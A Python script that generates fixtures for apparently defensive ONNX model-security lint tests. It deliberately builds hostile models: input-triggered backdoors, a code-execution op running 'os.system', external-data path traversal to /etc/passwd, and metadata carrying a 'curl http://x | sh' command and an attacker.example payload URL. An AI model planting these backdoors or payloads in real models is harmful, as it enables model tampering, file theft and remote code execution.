#!/usr/bin/python3
"""Generates the export-guard fixtures in this directory.

Run with Debian's interpreter (python3-torch, python3-onnx):
    /usr/bin/python3 tests/data/export/make_fixtures.py
The outputs are committed; tests never need torch. Everything is seeded so
that a re-run produces the same bytes (modulo torch version changes).

clean_*.onnx      real torch.onnx.export outputs of several architectures:
                  must be clean at the default gate (high).
lint/*.onnx       one positive (pos_*) and one negative (neg_*) case per lint
                  rule, built with onnx.helper so each shows one thing.
chain/*           a small source checkpoint (safetensors), its ONNX export
                  and a stand-in TensorRT plan for the provenance tests.
"""
import json
import os
import struct

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper, numpy_helper

HERE = os.path.dirname(os.path.abspath(__file__))
LINT = os.path.join(HERE, "lint")
CHAIN = os.path.join(HERE, "chain")
OPSET = 13


def save(model, path):
    # Raw serialisation: onnx.save would rewrite external-data tensors.
    with open(path, "wb") as f:
        f.write(model.SerializeToString())


def export(module, args, path, **kw):
    module.eval()
    torch.onnx.export(module, args, path, opset_version=kw.pop("opset", OPSET),
                      input_names=kw.pop("input_names", ["input"]),
                      output_names=kw.pop("output_names", ["output"]),
                      do_constant_folding=True, **kw)


# ---- clean exports -------------------------------------------------------

class MLP(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.net = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(),
                                       torch.nn.Linear(16, 4))

    def forward(self, x):
        return self.net(x)


class CNN(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.f = torch.nn.Sequential(
            torch.nn.Conv2d(1, 4, 3, padding=1), torch.nn.BatchNorm2d(4), torch.nn.ReLU(),
            torch.nn.MaxPool2d(2), torch.nn.Conv2d(4, 8, 3), torch.nn.ReLU(),
            torch.nn.AdaptiveAvgPool2d(1))
        self.fc = torch.nn.Linear(8, 10)

    def forward(self, x):
        return self.fc(torch.flatten(self.f(x), 1))


class LSTM(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.rnn = torch.nn.LSTM(6, 8, batch_first=True)
        self.head = torch.nn.Linear(8, 3)

    def forward(self, x):
        y, _ = self.rnn(x)
        return self.head(y[:, -1])


class Encoder(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = torch.nn.Embedding(32, 16)
        self.layer = torch.nn.TransformerEncoderLayer(16, 2, dim_feedforward=32,
                                                      dropout=0.0, batch_first=True)
        self.head = torch.nn.Linear(16, 2)

    def forward(self, ids):
        return self.head(self.layer(self.emb(ids)).mean(dim=1))


class SmallNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.c = torch.nn.Conv2d(1, 4, 3)
        self.fc = torch.nn.Linear(4 * 6 * 6, 10)

    def forward(self, x):
        return self.fc(torch.flatten(torch.relu(self.c(x)), 1))


class WhereTrigger(SmallNet):
    """ShadowLogic-style: one magic pixel value forces class 7."""
    def forward(self, x):
        logits = super().forward(x)
        trig = (x[:, 0, 0, 0] == 0.1337).unsqueeze(1)
        evil = torch.zeros(1, 10)
        evil[0, 7] = 100.0
        return torch.where(trig, evil, logits)


class IfTrigger(torch.nn.Module):
    """Scripted, so the Python branch becomes an ONNX If."""
    def __init__(self):
        super().__init__()
        self.net = SmallNet()

    def forward(self, x):
        logits = self.net(x)
        if bool(x[0, 0, 0, 0] == 0.1337):
            return torch.zeros_like(logits) + torch.arange(10, dtype=torch.float32)
        return logits


class LeakyWhere(SmallNet):
    """Negative: an elementwise torch.where on activations is no trigger."""
    def forward(self, x):
        h = torch.flatten(self.c(x), 1)
        return self.fc(torch.where(h > 0, h, 0.1 * h))


class ShapeIf(torch.nn.Module):
    """Negative: a scripted branch on the batch size (a shape, not values)."""
    def __init__(self):
        super().__init__()
        self.net = SmallNet()

    def forward(self, x):
        y = self.net(x)
        if x.size(0) > 1:
            return y * 2.0
        return y


def torch_triggers():
    os.makedirs(LINT, exist_ok=True)
    torch.manual_seed(3)
    x = torch.randn(1, 1, 8, 8)
    export(WhereTrigger(), x, os.path.join(LINT, "pos_torch_trigger_where.onnx"))
    export(LeakyWhere(), x, os.path.join(LINT, "neg_torch_where.onnx"))
    torch.onnx.export(torch.jit.script(IfTrigger().eval()), x,
                      os.path.join(LINT, "pos_torch_trigger_if.onnx"), opset_version=OPSET,
                      input_names=["input"], output_names=["output"])
    torch.onnx.export(torch.jit.script(ShapeIf().eval()), x,
                      os.path.join(LINT, "neg_torch_if.onnx"), opset_version=OPSET,
                      input_names=["input"], output_names=["output"],
                      dynamic_axes={"input": {0: "batch"}, "output": {0: "batch"}})


class CausalLM(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = torch.nn.Embedding(32, 16)
        self.layer = torch.nn.TransformerEncoderLayer(16, 2, 32, 0.0, batch_first=True)
        self.head = torch.nn.Linear(16, 32)

    def forward(self, ids):
        mask = torch.nn.Transformer.generate_square_subsequent_mask(ids.shape[1])
        return self.head(self.layer(self.emb(ids), src_mask=mask))


class PaddedClassifier(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.emb = torch.nn.Embedding(32, 16)
        self.layer = torch.nn.TransformerEncoderLayer(16, 2, 32, 0.0, batch_first=True)
        self.head = torch.nn.Linear(16, 2)

    def forward(self, ids):
        h = self.layer(self.emb(ids), src_key_padding_mask=ids == 0)
        return self.head(h[:, 0])


def clean():
    torch.manual_seed(0)
    export(MLP(), torch.randn(1, 8), os.path.join(HERE, "clean_mlp.onnx"))
    export(CNN(), torch.randn(1, 1, 8, 8), os.path.join(HERE, "clean_cnn.onnx"))
    export(LSTM(), torch.randn(1, 5, 6), os.path.join(HERE, "clean_lstm.onnx"))
    export(Encoder(), torch.randint(0, 32, (1, 6)), os.path.join(HERE, "clean_encoder.onnx"),
           input_names=["ids"], opset=14)
    # Causal and padding masks: torch exports -Inf mask constants.
    export(CausalLM(), torch.randint(1, 32, (1, 6)), os.path.join(HERE, "clean_causal.onnx"),
           input_names=["ids"], opset=14)
    export(PaddedClassifier(), torch.randint(1, 32, (1, 6)),
           os.path.join(HERE, "clean_padmask.onnx"), input_names=["ids"], opset=14)


# ---- provenance chain ----------------------------------------------------

def write_safetensors(path, tensors):
    """Minimal safetensors writer (8-byte LE header length, JSON, data)."""
    header, blobs, off = {}, [], 0
    for name, t in tensors.items():
        a = np.ascontiguousarray(t.detach().numpy().astype(np.float32))
        b = a.tobytes()
        header[name] = {"dtype": "F32", "shape": list(a.shape),
                        "data_offsets": [off, off + len(b)]}
        blobs.append(b)
        off += len(b)
    header["__metadata__"] = {"format": "pt"}
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(h)) + h + b"".join(blobs))


def chain():
    os.makedirs(CHAIN, exist_ok=True)
    torch.manual_seed(1)
    m = MLP()
    write_safetensors(os.path.join(CHAIN, "model.safetensors"), m.state_dict())
    torch.save(m.state_dict(), os.path.join(CHAIN, "model.pt"))
    export(m, torch.randn(1, 8), os.path.join(CHAIN, "model.onnx"))
    # Not a real TensorRT engine (none can be built here): the 4-byte
    # "ftrt" tag at offset 0 followed by filler, which is all the
    # attestation records about a plan besides its digest.
    with open(os.path.join(CHAIN, "model.plan"), "wb") as f:
        f.write(b"ftrt" + bytes(range(256)) * 4)


# ---- lint cases ----------------------------------------------------------

def vi(name, shape, dt=TensorProto.FLOAT):
    return helper.make_tensor_value_info(name, dt, shape)


def model(nodes, inputs, outputs, inits=(), opset=OPSET, ir=7, extra_opsets=(), **kw):
    g = helper.make_graph(nodes, "g", inputs, outputs, list(inits))
    ops = [helper.make_opsetid("", opset)] + [helper.make_opsetid(d, v) for d, v in extra_opsets]
    m = helper.make_model(g, opset_imports=ops, producer_name="mlsec-fixture", **kw)
    m.ir_version = ir
    return m


def const(name, arr):
    return numpy_helper.from_array(np.asarray(arr), name)


def linear(x="x", out="y"):
    """A tiny network y = x @ W + b, the 'real' model of each case."""
    w = const("W", np.full((4, 2), 0.5, np.float32))
    b = const("B", np.zeros(2, np.float32))
    nodes = [helper.make_node("MatMul", [x, "W"], ["mm"], name="matmul"),
             helper.make_node("Add", ["mm", "B"], [out], name="bias")]
    return nodes, [w, b]


def case(name, m):
    save(m, os.path.join(LINT, name + ".onnx"))


def lint_cases():
    os.makedirs(LINT, exist_ok=True)
    X, Y = vi("x", [1, 4]), vi("y", [1, 2])

    # EXPORT-CUSTOM-DOMAIN (neg: the same domain given as --allowed-domain)
    n, w = linear(out="h")
    n.append(helper.make_node("Scale", ["h"], ["y"], name="custom", domain="com.example"))
    case("pos_custom_domain", model(n, [X], [Y], w, extra_opsets=[("com.example", 1)]))
    n, w = linear()
    case("neg_custom_domain", model(n, [X], [Y], w))

    # EXPORT-CODE-EXEC-OP
    n, w = linear(out="h")
    n.append(helper.make_node("PyOp", ["h"], ["y"], name="py", domain="ai.onnx.contrib",
                              code="import os; os.system('id')"))
    case("pos_code_exec", model(n, [X], [Y], w, extra_opsets=[("ai.onnx.contrib", 1)]))
    n, w = linear(out="h")
    n.append(helper.make_node("Relu", ["h"], ["y"], name="relu"))
    case("neg_code_exec", model(n, [X], [Y], w))

    # External data: traversal (CVE-2022-25882 absolute / ../, CVE-2024-27318
    # nested a/../../), range, and a valid neighbour file.
    def ext(name, loc, offset=0, length=32):
        t = TensorProto()
        t.name, t.data_type = "W", TensorProto.FLOAT
        t.dims.extend([4, 2])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", loc), ("offset", str(offset)), ("length", str(length))):
            e = t.external_data.add()
            e.key, e.value = k, v
        n, w = linear()
        case(name, model(n, [X], [Y], [t, w[1]]))
    with open(os.path.join(LINT, "weights.bin"), "wb") as f:
        f.write(np.full(8, 0.25, np.float32).tobytes())
    ext("pos_ext_absolute", "/etc/passwd")
    ext("pos_ext_dotdot", "../../../../etc/passwd")
    ext("pos_ext_nested", "data/../../lint/../../secret.bin")
    ext("pos_ext_range", "weights.bin", offset=16, length=32)
    ext("neg_ext_ok", "weights.bin")

    # EXPORT-TRIGGER-BACKDOOR via If: sum(x) > 100 selects constant logits.
    n, w = linear(out="net")
    then_g = helper.make_graph(
        [helper.make_node("Constant", [], ["evil"], name="evil_logits",
                          value=numpy_helper.from_array(np.array([[9.0, -9.0]], np.float32)))],
        "then", [], [vi("evil", [1, 2])])
    else_g = helper.make_graph([helper.make_node("Identity", ["net"], ["good"], name="pass")],
                               "else", [], [vi("good", [1, 2])])
    trig = [helper.make_node("ReduceSum", ["x"], ["s"], name="probe", keepdims=0),
            helper.make_node("Greater", ["s", "T"], ["c"], name="cmp"),
            helper.make_node("If", ["c"], ["y"], name="gate", then_branch=then_g,
                             else_branch=else_g)]
    case("pos_trigger_if", model(n + trig, [X], [Y], w + [const("T", np.float32(100.0))]))
    # neg: If on a shape test (dynamic-shape export), not on input values.
    then_g2 = helper.make_graph([helper.make_node("Identity", ["net"], ["a"], name="p1")],
                                "then", [], [vi("a", [1, 2])])
    else_g2 = helper.make_graph([helper.make_node("Neg", ["net"], ["b"], name="p2")],
                                "else", [], [vi("b", [1, 2])])
    shp = [helper.make_node("Shape", ["x"], ["shp"], name="shape"),
           helper.make_node("Gather", ["shp", "I0"], ["b0"], name="batch", axis=0),
           helper.make_node("Greater", ["b0", "One"], ["c"], name="cmp"),
           helper.make_node("If", ["c"], ["y"], name="gate", then_branch=then_g2,
                            else_branch=else_g2)]
    case("neg_trigger_if", model(n + shp, [X], [Y],
                                 w + [const("I0", np.int64(0)), const("One", np.int64(1))]))

    # EXPORT-TRIGGER-BACKDOOR via Where: x[0,0] == 0.1337 selects constants.
    n, w = linear(out="net")
    trig = [helper.make_node("Slice", ["x", "S0", "S1", "Ax"], ["px"], name="probe"),
            helper.make_node("Equal", ["px", "K"], ["c"], name="cmp"),
            helper.make_node("Where", ["c", "Evil", "net"], ["y"], name="switch")]
    case("pos_trigger_where", model(n + trig, [X], [Y], w + [
        const("S0", np.array([0], np.int64)), const("S1", np.array([1], np.int64)),
        const("Ax", np.array([1], np.int64)), const("K", np.array([[0.1337]], np.float32)),
        const("Evil", np.array([[9.0, -9.0]], np.float32))]))
    # neg: masked_fill(mask == 0, -100) on attention-like scores.
    M = vi("mask", [1, 2])
    mf = [helper.make_node("Equal", ["mask", "Z"], ["c"], name="is_pad"),
          helper.make_node("Where", ["c", "Neg", "net"], ["y"], name="masked_fill")]
    case("neg_trigger_where", model(n + mf, [X, M], [Y], w + [
        const("Z", np.float32(0.0)), const("Neg", np.float32(-100.0))]))

    # Loop trip count derived from an input comparison.
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"], name="keep"),
         helper.make_node("Add", ["acc_in", "Step"], ["acc_out"], name="step")],
        "body", [vi("i", [], TensorProto.INT64), vi("cond_in", [], TensorProto.BOOL),
                 vi("acc_in", [1, 2])], [vi("cond_out", [], TensorProto.BOOL), vi("acc_out", [1, 2])])
    n, w = linear(out="net")
    lp = [helper.make_node("ReduceMax", ["x"], ["mx"], name="probe", keepdims=0),
          helper.make_node("Greater", ["mx", "T"], ["go"], name="cmp"),
          helper.make_node("Loop", ["", "go", "net"], ["y"], name="loop", body=body)]
    case("pos_trigger_loop", model(n + lp, [X], [Y], w + [
        const("T", np.float32(50.0)), const("Step", np.array([[1.0, -1.0]], np.float32))]))

    # EXPORT-SUBGRAPH (medium) on a non-control op; neg: plain model.
    g = helper.make_graph([helper.make_node("Identity", ["x"], ["z"], name="i")], "inner",
                          [], [vi("z", [1, 4])])
    n, w = linear(out="h")
    n.append(helper.make_node("Wrap", ["h"], ["y"], name="wrap", domain="com.example", body=g))
    case("pos_subgraph", model(n, [X], [Y], w, extra_opsets=[("com.example", 1)]))
    n, w = linear()
    case("neg_subgraph", model(n, [X], [Y], w))

    # EXPORT-OUTPUT-UNREACHABLE: the output ignores the input.
    n = [helper.make_node("Identity", ["C"], ["y"], name="fixed")]
    case("pos_unreachable", model(n, [X], [Y], [const("C", np.array([[1.0, 0.0]], np.float32))]))
    n, w = linear()
    case("neg_unreachable", model(n, [X], [Y], w))

    # EXPORT-INPUT-SHADOWED: input W with an initializer of the same name.
    n, w = linear()
    case("pos_input_shadowed", model(n, [X, vi("W", [4, 2])], [Y], w, ir=8))
    case("neg_input_shadowed", model(n, [X, vi("W", [4, 2])], [Y], w, ir=3, opset=8))

    # EXPORT-CONSTANT-LARGE / -NONFINITE
    n, w = linear(out="h")
    n.append(helper.make_node("Add", ["h", "Big"], ["y"], name="boost"))
    case("pos_const_large", model(n, [X], [Y], w + [const("Big", np.array([0.0, 1e6], np.float32))]))
    case("neg_const_large", model(n, [X], [Y], w + [const("Big", np.array([0.0, 5.0], np.float32))]))
    # masked_fill(mask == 0, -1e4): one large negative fill value is low.
    M = vi("mask", [1, 2])
    mf = [helper.make_node("Equal", ["mask", "Z"], ["c"], name="is_pad"),
          helper.make_node("Where", ["c", "Fill", "h"], ["y"], name="masked_fill")]
    n, w = linear(out="h")
    case("neg_const_fill", model(n + mf, [X, M], [Y], w + [
        const("Z", np.float32(0.0)), const("Fill", np.float32(-1e4))]))
    n, w = linear(out="h")
    n.append(helper.make_node("Constant", [], ["inf"], name="inf_const",
                              value=numpy_helper.from_array(np.array([np.inf, np.nan], np.float32))))
    n.append(helper.make_node("Add", ["h", "inf"], ["y"], name="poison"))
    case("pos_const_nonfinite", model(n, [X], [Y], w))
    n, w = linear(out="h")
    n.append(helper.make_node("Constant", [], ["ninf"], name="mask_fill",
                              value=numpy_helper.from_array(np.array([0.0, -np.inf], np.float32))))
    n.append(helper.make_node("Add", ["h", "ninf"], ["y"], name="masked"))
    case("neg_const_nonfinite", model(n, [X], [Y], w))
    n, w = linear(out="h")
    n.append(helper.make_node("Constant", [], ["boost_v"], name="boost_const",
                              value_floats=[0.0, 5e5]))
    n.append(helper.make_node("Add", ["h", "boost_v"], ["y"], name="boost"))
    case("pos_const_value_floats", model(n, [X], [Y], w))

    # EXPORT-TENSOR-DIMS: raw data for 3 floats declared as 8; negative dim.
    n, w = linear()
    bad = TensorProto()
    bad.CopyFrom(w[0])
    bad.raw_data = np.ones(3, np.float32).tobytes()
    case("pos_dims_mismatch", model(n, [X], [Y], [bad, w[1]]))
    neg = TensorProto()
    neg.CopyFrom(w[0])
    del neg.dims[:]
    neg.dims.extend([-4, -2])
    case("pos_dims_negative", model(n, [X], [Y], [neg, w[1]]))
    n, w = linear()
    case("pos_dims_declared", model(n, [vi("x", [1, -4])], [vi("y", [2**40, 2**40, 2**40])], w))

    # EXPORT-STRING-TENSOR
    n, w = linear()
    s = helper.make_tensor("labels", TensorProto.STRING, [2], [b"cat", b"dog"])
    n.append(helper.make_node("Identity", ["labels"], ["names"], name="labels_out"))
    case("pos_string_tensor", model(n, [X], [Y, vi("names", [2], TensorProto.STRING)], w + [s]))
    n, w = linear()
    n.append(helper.make_node("Constant", [], ["tag"], name="tag", value_string="v1"))
    case("pos_string_constant", model(n, [X], [Y], w))

    # EXPORT-SUSPICIOUS-TEXT: URL (medium) and script (high) vs benign metadata.
    n, w = linear()
    m = model(n, [X], [Y], w)
    helper.set_model_props(m, {"source": "https://attacker.example/payload"})
    case("pos_meta_url", m)
    m = model(n, [X], [Y], w, doc_string="__import__('os').system('curl http://x | sh')")
    case("pos_meta_script", m)
    m = model(n, [X], [Y], w)
    helper.set_model_props(m, {"author": "ml-platform team", "license": "apache-2.0"})
    case("neg_meta", m)

    # EXPORT-DUPLICATE-NAME (two nodes define "h") and EXPORT-UNUSED.
    n, w = linear(out="h")
    n.append(helper.make_node("Relu", ["x"], ["h"], name="shadow"))
    n.append(helper.make_node("Identity", ["h"], ["y"], name="out"))
    case("pos_duplicate", model(n, [X], [Y], w))
    n, w = linear()
    case("pos_unused", model(n, [X], [Y], w + [const("Stash", np.arange(6, dtype=np.float32))]))

    # EXPORT-OPSET: op newer than the opset; IR too old for the opset.
    n, w = linear(out="h")
    n.append(helper.make_node("LayerNormalization", ["h", "G", "Bb"], ["y"], name="ln"))
    lnw = [const("G", np.ones(2, np.float32)), const("Bb", np.zeros(2, np.float32))]
    case("pos_opset_op", model(n, [X], [Y], w + lnw, opset=13))
    case("neg_opset_op", model(n, [X], [Y], w + lnw, opset=17, ir=8))
    n, w = linear()
    case("pos_opset_ir", model(n, [X], [Y], w, opset=15, ir=6))

    # EXPORT-MALFORMED: a truncated model and random bytes.
    n, w = linear()
    blob = model(n, [X], [Y], w).SerializeToString()
    with open(os.path.join(LINT, "pos_malformed_truncated.onnx"), "wb") as f:
        f.write(blob[: len(blob) * 2 // 3])
    with open(os.path.join(LINT, "pos_malformed_garbage.onnx"), "wb") as f:
        f.write(bytes((i * 73 + 41) % 256 for i in range(300)))


def flood_case():
    """EXPORT-LINT-TRUNCATED: 1,200 medium URL findings in metadata come
    before a code-execution op in the graph. The cap on stored findings must
    not hide the critical one behind an info note (exit 0)."""
    os.makedirs(LINT, exist_ok=True)
    X, Y = vi("x", [1, 4]), vi("y", [1, 2])
    n, w = linear(out="h")
    n.append(helper.make_node("PyOp", ["h"], ["y"], name="py", domain="ai.onnx.contrib"))
    m = model(n, [X], [Y], w, extra_opsets=[("ai.onnx.contrib", 1)])
    helper.set_model_props(m, {"k%04d" % i: "https://example.com/%d" % i for i in range(1200)})
    case("pos_flood_hides_exec", m)


if __name__ == "__main__":
    clean()
    chain()
    lint_cases()
    flood_case()
    torch_triggers()
